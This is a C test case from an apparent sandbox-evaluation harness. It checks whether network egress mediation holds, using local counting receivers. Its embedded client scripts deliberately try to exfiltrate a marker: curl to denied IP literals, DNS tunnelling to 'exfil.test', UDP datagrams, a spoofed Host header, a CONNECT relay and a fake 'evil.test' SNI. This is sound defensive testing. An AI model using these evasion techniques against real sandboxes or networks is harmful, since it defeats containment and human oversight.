/* HB-09: egress mediation is mandatory.
 *
 * Fixture (outside every sandbox, on the host's loopback): the allowed
 * receiver (127.0.0.1:18961, "allowed.test" for the sandbox by the
 * policy's network.resolve), two denied receivers (127.0.0.1:18962 and
 * [::1]:18962) and the exfil.test "authoritative DNS" (UDP
 * 127.0.0.1:18953), each a counting thread of the harness
 * (receivers/counter.c), proven before and after the workload by a probe
 * of the harness's own. The sandboxed clients: proxy-aware curl and a
 * proxy-unaware one (curl --noproxy) to the allowed name (the control),
 * proxy-aware curl to a name no rule allows, raw TCP to the denied
 * receivers' IPv4 and IPv6 literals, a DNS query for MARKER.exfil.test
 * sent straight to the DNS receiver's address and one through the
 * resolver (getent), a UDP datagram to :443 and one with the marker to a
 * loopback UDP receiver, a proxy-form request for the allowed name with
 * the Host of another, a CONNECT relay through the allowed http port, and
 * TLS to tls.test with, without and with another SNI (docs/scenarios.md). Evidence: the receivers'
 * counts and request heads, the admissions log read back from the
 * completion record (verified by paddock and joined by admission id).
 *
 * Arms: enforced; weakened:host-net (the host's network: the clients
 * reach the denied receivers, so it must FAIL); weakened:proxy-env-only
 * (the mediator without the local default routes: nothing denied gets
 * out, but the proxy-unaware client has no route to the allowed host
 * either, so enforcement PASSes and control must FAIL: the arm table's
 * .weakens); weakened:dns-open (the stub forwards what it would refuse,
 * here to the exfil.test receiver, PADDOCK_DNS_UPSTREAM: the marker
 * query reaches it, so it must FAIL). docker: the reference, with the
 * same kinds of clients in busybox (wget with and without the proxy, wget
 * to the literals, nslookup, nc): no bridge network may be made here, so
 * Docker runs in its one offline mode, --network none, which refuses
 * everything, the permitted request too (control FAILs; the reference arm
 * is reported, not required). Docker's own mediated design (an internal
 * network and a proxy container) needs a bridge network: not run. */
#include "../../lib/case.h"
#include "../../observers/observe.h"
#include "../../observers/selftest.h"
#include "../../receivers/counter.h"
#include "hb09_grade.h"

#include <arpa/inet.h>
#include <cjson/cJSON.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define PORT_OK	    18961
#define PORT_DENIED 18962
#define PORT_DNS    18953
#define PORT_TLS    18964 /* tls.test, a "tls" rule */
#define PORT_UDP    18966 /* a loopback UDP port no rule names */

static const struct case_arm arms[] = {
    {.name = "enforced"},
    {.name = "weakened:host-net"},
    {.name = "weakened:proxy-env-only", .weakens = DIM_CONTROL},
    {.name = "weakened:dns-open"},
    {.name = "docker"},
    {.name = NULL},
};

/* $1 the marker. Every client gives up quickly; what counts is what the
 * receivers saw, never what the clients say. */
#define CLIENTS                                                                                    \
	"m=\"$1\"\n"                                                                               \
	"curl -s -m 5 http://allowed.test:18961/control-proxy >/dev/null\n"                        \
	"curl -s -m 5 --noproxy '*' http://allowed.test:18961/control-transparent >/dev/null\n"    \
	"curl -s -m 3 http://denied.test:18962/$m >/dev/null\n"                                    \
	"curl -s -m 3 --noproxy '*' http://127.0.0.1:18962/$m >/dev/null\n"                        \
	"curl -s -m 3 --noproxy '*' 'http://[::1]:18962/'$m >/dev/null\n"                          \
	"getent hosts $m.exfil.test >/dev/null\n"                                                  \
	"t='timeout 5 openssl s_client -connect tls.test:18964'\n"                                 \
	"$t -proxy 127.0.0.1:3128 -servername tls.test </dev/null >/dev/null 2>&1\n"               \
	"$t -proxy 127.0.0.1:3128 -noservername </dev/null >/dev/null 2>&1\n"                      \
	"$t -proxy 127.0.0.1:3128 -servername evil.test </dev/null >/dev/null 2>&1\n"              \
	"$t -noservername </dev/null >/dev/null 2>&1\n"                                            \
	"python3 - \"$m\" <<'PY'\n"                                                                \
	"import socket, struct, sys\n"                                                             \
	"m = sys.argv[1]\n"                                                                        \
	"q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n"                    \
	"for l in (m + '.exfil.test').split('.'):\n"                                               \
	"    q += bytes([len(l)]) + l.encode()\n"                                                  \
	"q += b'\\x00\\x00\\x10\\x00\\x01'\n"                                                      \
	"for dst in (('127.0.0.1', 18953), ('127.0.0.1', 443)):\n"                                 \
	"    try:\n"                                                                               \
	"        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, dst)\n"         \
	"    except OSError: pass\n"                                                               \
	"try:\n"                                                                                   \
	"    s = socket.create_connection(('127.0.0.1', 3128), timeout=3)\n"                       \
	"    s.sendall(('GET http://allowed.test:18961/mismatch-' + m + ' HTTP/1.1\\r\\n'\n"       \
	"               'Host: denied.test:18962\\r\\n\\r\\n').encode()); s.recv(100)\n"           \
	"except OSError: pass\n"                                                                   \
	"try:\n"                                                                                   \
	"    s = socket.create_connection(('127.0.0.1', 3128), timeout=3)\n"                       \
	"    s.sendall(b'CONNECT allowed.test:18961 HTTP/1.1\\r\\nHost: "                          \
	"allowed.test\\r\\n\\r\\n')\n"                                                             \
	"    if b' 200 ' in s.recv(200).split(b'\\r\\n')[0] + b' ':\n"                             \
	"        s.sendall(('GET /relay-' + m + ' HTTP/1.1\\r\\nHost: d\\r\\n\\r\\n').encode())\n" \
	"        s.recv(100)\n"                                                                    \
	"except OSError: pass\n"                                                                   \
	"try:\n"                                                                                   \
	"    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"                               \
	"    s.sendto(('udp-' + m).encode(), ('127.0.0.1', 18966))\n"                              \
	"except OSError: pass\n"                                                                   \
	"PY\n"                                                                                     \
	"exit 0\n"

/* weakened:dns-open: the open stub's upstream is the exfil.test receiver. */
static const char *const dns_open_env[] = {"PADDOCK_DNS_UPSTREAM=127.0.0.1:18953", NULL};

/* The same clients for the busybox-only Docker image: wget honours
 * http_proxy (-Y off ignores it; busybox 1.35's -T crashes, so timeout(1)
 * bounds each), nc sends the mismatched proxy-form request, nslookup asks
 * the DNS receiver's address and port directly. Each reaches its receiver
 * when run on the host (checked by hand against these receivers). */
#define BUSYBOX_CLIENTS                                                                           \
	"m=\"$1\"; export http_proxy=http://127.0.0.1:3128; w='timeout 5 wget -q -O /dev/null'\n" \
	"$w http://allowed.test:18961/control-proxy\n"                                            \
	"$w -Y off http://allowed.test:18961/control-transparent\n"                               \
	"$w http://denied.test:18962/$m\n"                                                        \
	"$w -Y off http://127.0.0.1:18962/$m\n"                                                   \
	"$w -Y off \"http://[::1]:18962/$m\"\n"                                                   \
	"timeout 5 nslookup $m.exfil.test 127.0.0.1:18953 >/dev/null 2>&1\n"                      \
	"printf 'udp-%s' \"$m\" | timeout 3 nc -u 127.0.0.1 18966 >/dev/null 2>&1\n"              \
	"printf 'GET http://allowed.test:18961/mismatch-%s HTTP/1.1\\r\\nHost: "                  \
	"denied.test:18962\\r\\n\\r\\n' \"$m\" | timeout 5 nc 127.0.0.1 3128 >/dev/null 2>&1\n"   \
	"exit 0\n"

struct hb09 {
	struct counter_rx *ok, *denied4, *denied6, *dns, *tls, *udp;
	char marker[64];
	struct egress_obs o;
};

/* The harness's own request or datagram to a receiver: it must count it. */
static void poke(const char *addr, int port, bool udp)
{
	struct sockaddr_storage ss = {0};
	socklen_t len;
	int fd;

	len = counter_addr(addr, port, &ss);
	fd = socket(ss.ss_family, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return;
	if (udp) {
		(void)sendto(fd, "X-Harness-Probe", 15, 0, (struct sockaddr *)&ss, len);
	} else if (connect(fd, (struct sockaddr *)&ss, len) == 0) {
		char b[128];

		(void)!send(fd, "GET /probe HTTP/1.1\r\nX-Harness-Probe: 1\r\n\r\n", 44,
			    MSG_NOSIGNAL);
		(void)!recv(fd, b, sizeof(b), 0);
	}
	close(fd);
}

static bool prove(struct hb09 *h, size_t want)
{
	struct {
		struct counter_rx *rx;
		const char *addr;
		int port;
		bool udp;
	} all[] = {
	    {h->ok, "127.0.0.1", PORT_OK, false},    {h->denied4, "127.0.0.1", PORT_DENIED, false},
	    {h->denied6, "::1", PORT_DENIED, false}, {h->dns, "127.0.0.1", PORT_DNS, true},
	    {h->tls, "127.0.0.1", PORT_TLS, false},  {h->udp, "127.0.0.1", PORT_UDP, true}};
	bool ok = true;

	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++) {
		poke(all[i].addr, all[i].port, all[i].udp);
		for (int t = 0; t < 50 && counter_matching(all[i].rx, "X-Harness-Probe") < want;
		     t++)
			sleep_ms(10);
		ok &= counter_matching(all[i].rx, "X-Harness-Probe") >= want;
	}
	return ok;
}

static int setup(struct case_run *cr, struct err *why)
{
	struct hb09 *h = cr->priv;
	int rc;

	snprintf(h->marker, sizeof(h->marker), "hb09m%d%lx", (int)getpid(), (long)random());
	rc = counter_start(&h->ok, "127.0.0.1", PORT_OK, false);
	if (rc >= 0)
		rc = counter_start(&h->denied4, "127.0.0.1", PORT_DENIED, false);
	if (rc >= 0)
		rc = counter_start(&h->denied6, "::1", PORT_DENIED, false);
	if (rc >= 0)
		rc = counter_start(&h->dns, "127.0.0.1", PORT_DNS, true);
	if (rc >= 0)
		rc = counter_start(&h->tls, "127.0.0.1", PORT_TLS, false);
	if (rc >= 0)
		rc = counter_start(&h->udp, "127.0.0.1", PORT_UDP, true);
	if (rc < 0)
		return err_sys(why, rc,
			       "a receiver could not listen (ports 18961, 18962, 18953, 18964, "
			       "18966)");
	return 0;
}

/* The admissions log the record names: read, its verification (the
 * record's), the "allowed" admissions, and the ids joined with the
 * allowed receiver's request heads. */
static void admissions(struct case_run *cr, struct hb09 *h, const char *rec)
{
	char path[512] = "", verified[32] = "", want[96];
	static char log[1 << 20];
	int n;

	if (selftest_on("admissions-unread") ||
	    record_get(rec, "network.admissions_log", path, sizeof(path)) < 0 || !path[0]) {
		result_evidence(cr->r, "admissions", "the record names no admissions log");
		return;
	}
	(void)record_get(rec, "network.admissions_log_verified", verified, sizeof(verified));
	n = read_file(path, log, sizeof(log));
	if (n < 0) {
		result_evidence(cr->r, "admissions", "cannot read %s", path);
		return;
	}
	h->o.log_read = true;
	h->o.log_verified = strstr(verified, "complete") && !strstr(verified, "incomplete");
	for (char *l = log; *l;) {
		char *e = strchr(l, '\n');
		cJSON *o = cJSON_ParseWithLength(l, e ? (size_t)(e - l) : strlen(l));
		const cJSON *ev = cJSON_GetObjectItemCaseSensitive(o, "event");
		const cJSON *d = cJSON_GetObjectItemCaseSensitive(o, "decision");
		const cJSON *nm = cJSON_GetObjectItemCaseSensitive(o, "name");

		/* The http receiver's admissions: those for allowed.test (the
		 * TLS control's are tls.test's, counted by the TLS receiver). */
		if (cJSON_IsString(ev) && cJSON_IsString(d) && cJSON_IsString(nm) &&
		    strcmp(ev->valuestring, "decision") == 0 &&
		    strcmp(d->valuestring, "allowed") == 0 &&
		    strcmp(nm->valuestring, "allowed.test") == 0)
			h->o.admitted++;
		cJSON_Delete(o);
		if (!e)
			break;
		l = e + 1;
	}
	for (size_t i = 0; counter_head(h->ok, i); i++) {
		const char *hd = counter_head(h->ok, i), *id = strstr(hd, "Paddock-Admission: ");
		size_t k;

		if (strstr(hd, "X-Harness-Probe") || !id)
			continue;
		id += strlen("Paddock-Admission: ");
		k = strcspn(id, "\r\n");
		snprintf(want, sizeof(want), "\"admission\":\"%.*s\"", (int)k, id);
		h->o.joined += strstr(log, want) != NULL;
	}
	result_evidence(
	    cr->r, "admissions",
	    "log %s (%s): %zu allowed admission(s); %zu receiver request(s) joined by id", path,
	    verified[0] ? verified : "unverified", h->o.admitted, h->o.joined);
}

static void run(struct case_run *cr)
{
	struct hb09 *h = cr->priv;
	struct result *r = cr->r;
	char rec[PATH_MAX + 64];
	struct argv_buf a;
	int status = -1;
	bool before;

	snprintf(rec, sizeof(rec), "%s/record.json", cr->records);
	before = prove(h, 1);
	case_argv_arm(
	    cr, &a,
	    &(struct arm_start){.ws = cr->fx.dir,
				.record = rec,
				.env = strcmp(r->knob, "dns-open") == 0 ? dns_open_env : NULL});
	argv_words(&a, "sh", "-c", r->kind == ARM_DOCKER ? BUSYBOX_CLIENTS : CLIENTS, "sh",
		   h->marker, NULL);
	if (case_run_vec(cr, &a, cr->log, 120000, &status) < 0) {
		result_not_executed(r, "could not start the workload");
		return;
	}
	h->o.receivers_proven = before && prove(h, 2);
	if (r->kind != ARM_DOCKER)
		case_record(cr, rec, NULL);
	/* proxy-env-only still goes through the mediator: its admissions
	 * must still join. */
	h->o.mediated = r->kind == ARM_ENFORCED || strcmp(r->knob, "proxy-env-only") == 0 ||
			strcmp(r->knob, "dns-open") == 0;
	h->o.denied = counter_count(h->denied4) + counter_count(h->denied6) -
		      counter_matching(h->denied4, "X-Harness-Probe") -
		      counter_matching(h->denied6, "X-Harness-Probe");
	h->o.dns_marker = counter_matching(h->dns, h->marker);
	h->o.allowed = counter_count(h->ok) - counter_matching(h->ok, "X-Harness-Probe");
	h->o.control_proxy = counter_matching(h->ok, "GET /control-proxy ") > 0;
	h->o.control_transparent = counter_matching(h->ok, "GET /control-transparent ") > 0;
	h->o.relayed = counter_matching(h->ok, "/relay-");
	h->o.udp_marker = counter_matching(h->udp, h->marker);
	/* A ClientHello that names tls.test carries those bytes; any other
	 * connection but the harness's probe came without the allowed SNI. */
	h->o.tls_client = r->kind != ARM_DOCKER;
	h->o.tls_control = counter_matching(h->tls, "tls.test") > 0;
	h->o.tls_leaked = counter_count(h->tls) - counter_matching(h->tls, "X-Harness-Probe") -
			  counter_matching(h->tls, "tls.test");
	result_evidence(
	    r, "receivers",
	    "allowed %zu request(s) (proxy-aware control %s, proxy-unaware control %s), "
	    "denied %zu connection(s), exfil.test DNS %zu marker query(ies), UDP %zu marker "
	    "datagram(s), TLS %s with the allowed SNI and %zu without it, %zu relayed through a "
	    "CONNECT to the http rule; probes %s",
	    h->o.allowed, h->o.control_proxy ? "arrived" : "missing",
	    h->o.control_transparent ? "arrived" : "missing", h->o.denied, h->o.dns_marker,
	    h->o.udp_marker,
	    !h->o.tls_client   ? "(no TLS client in this image)"
	    : h->o.tls_control ? "arrived"
			       : "missing",
	    h->o.tls_leaked, h->o.relayed, h->o.receivers_proven ? "counted" : "NOT counted");
	if (h->o.mediated)
		admissions(cr, h, rec);
	result_evidence(r, "exit", "workload status %d (not evidence)", status);
	grade_egress(&h->o, r->v);
}

static void teardown(struct case_run *cr)
{
	struct hb09 *h = cr->priv;

	counter_stop(h->ok);
	counter_stop(h->denied4);
	counter_stop(h->denied6);
	counter_stop(h->dns);
	counter_stop(h->tls);
	counter_stop(h->udp);
}

const struct eval_case hb09_case = {
    .id = "HB-09",
    .title = "Egress mediation is mandatory",
    .policy = "cases/network/hb09_policy.json",
    .arms = arms,
    .fixture = CASE_DIR | CASE_RECORDS,
    .priv_size = sizeof(struct hb09),
    .setup = setup,
    .run = run,
    .teardown = teardown,
};
